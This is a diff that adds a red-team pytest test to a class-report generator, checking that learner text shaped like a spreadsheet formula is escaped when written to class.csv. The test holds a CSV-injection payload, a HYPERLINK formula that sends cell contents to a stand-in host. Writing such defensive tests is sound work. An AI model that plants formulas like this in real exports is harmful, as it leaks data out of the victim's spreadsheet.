@@ -74,6 +74,26 @@ def test_class_numbers_count_mistakes_pass_rates_and_failures():
     assert sorted(numbers.scores) == [6, 11, 18]
 
 
+def test_learner_text_in_the_class_csv_never_runs_as_a_spreadsheet_formula(tmp_path):
+    """Red team: an exception message of the learner's reached class.csv as =HYPERLINK(...)."""
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    learner = Grade(
+        "eve",
+        "f5",
+        "graded",
+        0,
+        13,
+        {"argmax_accuracy.returns_float": 0},
+        mistakes={"argmax_accuracy.returns_float": "not_found"},
+        messages={"argmax_accuracy.returns_float": formula},
+    )
+    page = tmp_path / "class.html"
+    write_class_report(class_numbers([learner, learner]), page)
+    cells = [cell for row in csv.reader(page.with_suffix(".csv").open()) for cell in row]
+    assert "'" + formula in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+
+
 def test_class_report_is_one_page_whose_figures_render_in_chromium(tmp_path):
     chromium = shutil.which("chromium") or shutil.which("chromium-browser")
     if chromium is None:
